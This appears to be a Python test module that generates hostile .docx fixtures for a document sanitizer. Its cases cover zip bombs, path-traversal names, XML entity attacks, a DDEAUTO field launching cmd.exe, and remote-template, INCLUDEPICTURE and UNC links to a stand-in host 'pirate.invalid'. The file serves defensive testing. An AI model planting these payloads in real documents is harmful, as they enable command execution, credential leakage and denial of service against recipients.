"""Hostile Word files, a family a function: each gives name, bytes, and the code we answer with."""

import struct
import zlib
from collections.abc import Iterator

from tests.documents.made import (
    MAIN,
    R,
    Raw,
    W,
    document,
    docx,
    linked,
    paragraph,
    parts,
    png,
    raw_parts,
    raw_zip,
    rels,
    types,
    zipped,
)

SECRET = "http://pirate.invalid/"
Case = tuple[str, bytes, str]
_MIB = 1024 * 1024


def _zeros(size: int) -> tuple[bytes, int]:
    """Zeros packed without ever holding them, and their checksum."""
    machine, crc, out = zlib.compressobj(9, zlib.DEFLATED, -15), 0, b""
    block = b"\0" * _MIB
    for _ in range(size // _MIB):
        out += machine.compress(block)
        crc = zlib.crc32(block, crc)
    return out + machine.flush(), crc


def bombs() -> Iterator[Case]:
    """U1: what a few bytes would cost."""
    packed, _ = _zeros(40 * _MIB)
    body = b"\0" * 40 * _MIB
    bomb = [Raw(f"word/media/{n}.bin", body, packed=packed) for n in range(2)]
    yield "ratio", raw_zip([*raw_parts(), *bomb]), "ratio"
    many = [Raw(f"word/media/{n}.bin", body, packed=packed) for n in range(6)]
    yield "all parts together", raw_zip([*raw_parts(), *many]), "all_too_big"
    yield "one part", raw_zip([*raw_parts(), Raw("x", b"", size=70 * _MIB)]), "part_too_big"
    lying = Raw("word/lie.bin", body, packed=packed, size=1_000)
    yield "size that lies", raw_zip([*raw_parts(), lying]), "zip"
    same = [Raw(f"q{n}", b"abc", offset=0) for n in range(3)]
    yield "overlapping parts", raw_zip([*raw_parts(), *same]), "zip"
    yield "zip in a zip", zipped({"inner.zip": docx()}), "plain_zip"
    empty = [Raw(f"p{n}", b"", method=0) for n in range(60_000)]
    yield "sixty thousand parts", raw_zip(empty), "parts"
    huge = bytearray(raw_zip(raw_parts()))
    struct.pack_into("<L", huge, huge.rfind(b"PK\5\6") + 16, 0xFFFFFFFF)
    yield "zip64 of a tebibyte", bytes(huge), "zip64"


def paths() -> Iterator[Case]:
    """U2: names that leave the archive."""
    bad = (
        "../evil",
        "/etc/evil",
        "word\\evil",
        "C:evil",
        "a/../b",
        "word//x",
        "a\x01b",
        "a\u202eb",
    )
    for name in bad:
        yield f"name {name!r}", raw_zip([*raw_parts(), Raw(name, b"x", flags=0x800)]), "zip"
    yield "symbolic link", raw_zip([*raw_parts(), Raw("link", b"/etc", mode=0o120777)]), "zip"


def disagreements() -> Iterator[Case]:
    """U3: files that two readers would read in two ways."""
    good = docx()
    two = rels(("a", "officeDocument", "word/document.xml"), ("b", "officeDocument", "word/b.xml"))
    body = {"_rels__.rels": two, "word__b.xml": document("")}
    yield "two main parts by link", docx(**body), "two_mains"
    kinds = types(**{"word__b.xml": MAIN})
    more = {"[Content_Types].xml": kinds, "word__b.xml": document("")}
    yield "two main parts by type", docx(**more), "two_mains"
    yield "case twins", raw_zip([*raw_parts(), Raw("WORD/document.xml", b"x")]), "zip"
    yield "two names", raw_zip([*raw_parts(), Raw("a", b"x", local_name="b")]), "zip"
    yield "prefix", b"MZ fake program" + good, "prefix"
    yield "polyglot", b"%PDF-1.7\n" + good, "pdf"
    yield "tail", good + b"tail", "tail"
    yield "comment", raw_zip(raw_parts(), comment=b"PK"), "tail"
    yield "bytes between parts", raw_zip(raw_parts(), gap=b"hidden"), "zip"


def wrong_kinds() -> Iterator[Case]:
    """U4: what is no Word document, or is locked or broken."""
    good = docx()
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield "empty", b"", "empty"
    yield "noise", bytes(range(256)) * 8, "not_word"
    yield "pdf", b"%PDF-1.4 ...", "pdf"
    yield "rtf", b"{\\rtf1 x}", "rtf"
    yield "password", ole + "EncryptedPackage".encode("utf-16-le"), "password"
    yield "old word", ole, "old_word"
    yield "truncated", good[:-200], "truncated"
    yield "encrypted part", raw_zip(raw_parts(flags=1)), "encrypted"
    yield "damaged part", good.replace(b"PK\1\2", b"PK\1\2", 1)[:60] + b"\xff" + good[61:], "*"
    yield "no types", zipped({"a.txt": "x"}), "plain_zip"
    odf = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}
    yield "open document", zipped(odf), "odf"
    for kind, code in (
        ("spreadsheetml.sheet", "excel"),
        ("presentationml.presentation", "powerpoint"),
    ):
        name = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
        yield code, docx(**{"[Content_Types].xml": types(**{"word__document.xml": name})}), code
    without = {k: v for k, v in parts().items() if k != "word/document.xml"}
    yield "main part missing", zipped(without), "no_main"
    yield (
        "no relationships",
        zipped({k: v for k, v in parts().items() if "rels" not in k}),
        "no_rels",
    )
    yield "no body", docx(word__document_xml="", **{"word__document.xml": "<a/>"}), "no_body"


def entities() -> Iterator[Case]:
    """U5: DOCTYPE in every part and encoding."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    reader = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{SECRET}">]>'
    good = document(paragraph("x"))
    yield "billion laughs", docx(**{"word__document.xml": laughs + good}), "doctype"
    yield "external entity", docx(**{"word__document.xml": reader + good}), "doctype"
    wide = (reader + good).encode("utf-16")
    yield "in UTF-16", docx(**{"word__document.xml": wide}), "doctype"
    seven = b'<?xml version="1.0" encoding="utf-7"?>' + good.encode()
    yield "in UTF-7", docx(**{"word__document.xml": seven}), "xml"
    yield "in the types", docx(**{"[Content_Types].xml": reader + types()}), "doctype"
    yield "in the properties", docx(**{"docProps__core.xml": reader + "<a/>"}), "doctype"
    yield "in the links", docx(**{"word___rels__document.xml.rels": reader + rels()}), "doctype"


def shapes() -> Iterator[Case]:
    """U6: XML that would hurt a parser."""
    deep = "<w:p>" * 60_000 + "</w:p>" * 60_000
    yield "sixty thousand deep", docx(deep), "depth"
    yield "deeper than allowed", docx("<w:sdt>" * 260 + "</w:sdt>" * 260), "depth"
    yield "attribute of twelve megabytes", docx(f'<w:p w:x="{"y" * 12_000_000}"/>'), "xml"
    yield "illegal signs", docx("<w:p>\x01</w:p>"), "xml"
    yield "not closed", docx("<w:p>"), "xml"
    table = paragraph("x")
    for _ in range(30):
        table = f"<w:tbl><w:tr><w:tc>{table}</w:tc></w:tr></w:tbl>"
    yield "nested tables", docx(table), "tables"
    yield "too many marks", docx("<w:p/>" * 3_100_000), "xml_size"


def strangers() -> Iterator[Case]:
    """U8: relationships of which two readers would follow two."""
    twice = (("r1", "image", "media/a.png"), ("r1", "image", "media/b.png"))
    yield "double id", linked(paragraph("x"), *twice), "double_rel"


def floods() -> Iterator[Case]:
    """U10: pictures whose pixels would fill the memory."""
    for name, width, height in (("flood", 10_000, 10_000), ("two to the 31st", 2**31 - 1, 1_000)):
        head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
        chunk = b"IHDR" + head
        body = b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 13) + chunk
        body += struct.pack(">L", zlib.crc32(chunk)) + png()[33:]
        yield name, pictured(body), "pixels"


REFUSED = (bombs, paths, disagreements, wrong_kinds, entities, shapes, strangers, floods)


def pictured(body: bytes, kind: str = "png") -> bytes:
    """A document that shows one picture."""
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><a:graphic><a:graphicData>'
        '<a:blip r:embed="r1"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )
    more: dict[str, str | bytes] = {
        "word___rels__document.xml.rels": rels(("r1", "image", f"media/a.{kind}")),
        f"word__media__a.{kind}": body,
    }
    return docx(drawing + paragraph("après l’image"), **more)


def field(code: str, result: str = "résultat", *, split: bool = False) -> str:
    """A complex field in a paragraph, its code in one run or a letter a run."""
    pieces = list(code) if split else [code]
    codes = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def cleaned() -> Iterator[Case]:
    """U7-U10: what is taken out and told, its text kept."""
    outside = "External"
    yield "DDE", docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"')), "field"
    yield "DDE a letter a run", docx(field(" DDE cmd x", split=True)), "field"
    nested = field("QUOTE 68 68 69").removeprefix("<w:p>").removesuffix("</w:p>")
    outer = field("PLACE").replace("<w:r><w:instrText", nested + "<w:r><w:instrText", 1)
    yield "DDE by QUOTE", docx(outer), "field"
    masked = field(" REF a").replace("<w:r><w:instrText", nested + "<w:r><w:instrText", 1)
    yield "a keyword made by another field", docx(masked), "field"
    tracked = (
        "<w:del><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:del>"
        "<w:ins><w:r><w:instrText>REF a</w:instrText></w:r></w:ins>"
    )
    back = field("x").replace(
        '<w:r><w:instrText xml:space="preserve">x</w:instrText></w:r>', tracked
    )
    yield "DDE behind a tracked change", docx(back), "field"
    simple = (
        '<w:p><w:fldSimple w:instr="DDE cmd"><w:r><w:t>résultat</w:t></w:r></w:fldSimple></w:p>'
    )
    yield "DDE in a simple field", docx(simple), "field"
    yield "INCLUDEPICTURE", docx(field(f'INCLUDEPICTURE "{SECRET}a.png"')), "field"
    yield "INCLUDETEXT", docx(field('INCLUDETEXT "\\\\\\\\pirate\\\\x.docx"')), "field"
    yield "link field to a file", docx(field('HYPERLINK "file:///etc/passwd"')), "field"
    link = '<w:p><w:hyperlink r:id="r1"><w:r><w:t>résultat</w:t></w:r></w:hyperlink></w:p>'
    for target in ("file:///etc/passwd", "\\\\pirate\\x", "javascript:alert(1)", "smb://pirate/"):
        yield f"link to {target}", linked(link, ("r1", "hyperlink", target, outside)), "link"


def taken_out() -> Iterator[Case]:
    """U7-U10: links, programs and pictures that go, told, while the text stays."""
    outside = "External"
    lonely = '<w:altChunk r:id="r1"/>' + paragraph("résultat")
    yield "altChunk of nothing", docx(lonely), "aFChunk"
    yield "altChunk elsewhere", linked(lonely, ("r1", "aFChunk", SECRET, outside)), "aFChunk"
    yield "altChunk missing", linked(lonely, ("r1", "aFChunk", "x.html")), "aFChunk"
    sub = '<w:p><w:subDoc r:id="r1"/></w:p>' + paragraph("résultat")
    yield "sub-document", linked(sub, ("r1", "subDocument", SECRET, outside)), "subDocument"
    drawing = '<w:p><w:r><w:drawing><a:blip r:link="r1"/></w:drawing></w:r></w:p>'
    body = drawing + paragraph("résultat")
    yield "linked picture", linked(body, ("r1", "image", SECRET, outside)), "linked_image"
    shape = (
        f'<w:p><w:r><w:pict><v:shape><v:imagedata src="{SECRET}"/></v:shape></w:pict></w:r></w:p>'
    )
    yield "linked shape", docx(shape + paragraph("résultat")), "linked_image"
    ole = '<w:p><w:r><w:object><o:OLEObject r:id="r1"/></w:object></w:r></w:p>' + paragraph(
        "résultat"
    )
    yield "linked object", linked(ole, ("r1", "oleObject", SECRET, outside)), "oleObject"
    yield "object", linked(ole, ("r1", "oleObject", "embeddings/x.bin")), "oleObject"
    control = '<w:p><w:r><w:object><w:control r:id="r1"/></w:object></w:r></w:p>'
    yield "ActiveX", linked(control + paragraph("résultat"), ("r1", "control", "ax.xml")), "control"
    vba = ("r1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vba.bin")
    yield "macros", linked(paragraph("résultat"), vba), "vbaProject"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    kinds = {"[Content_Types].xml": types(**{"word__document.xml": macro})}
    yield "docm as docx", docx(paragraph("résultat"), **kinds), "vbaProject"
    for target in ("../../../etc/x.png", "document.xml", "media/none.png", ""):
        yield f"target {target!r}", linked(body, ("r1", "image", target)), "broken"
    yield "SVG with a script", _svg(), "broken"
    yield "HTML as picture", pictured(b"<html><script>x</script></html>"), "broken"
    yield "template elsewhere", _settings("<w:attachedTemplate r:id='r1'/>"), "attachedTemplate"
    yield "mail merge", _settings("<w:mailMerge><w:query w:val='x'/></w:mailMerge>"), "mailmerge"


def _svg() -> bytes:
    return pictured(b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "svg")


def _settings(inner: str) -> bytes:
    more = {
        "word___rels__document.xml.rels": rels(("r1", "settings", "settings.xml")),
        "word__settings.xml": f"<w:settings xmlns:w='{W}' xmlns:r='{R}'>{inner}</w:settings>",
        "word___rels__settings.xml.rels": rels(("r1", "attachedTemplate", SECRET, "External")),
    }
    return docx(paragraph("résultat"), **more)
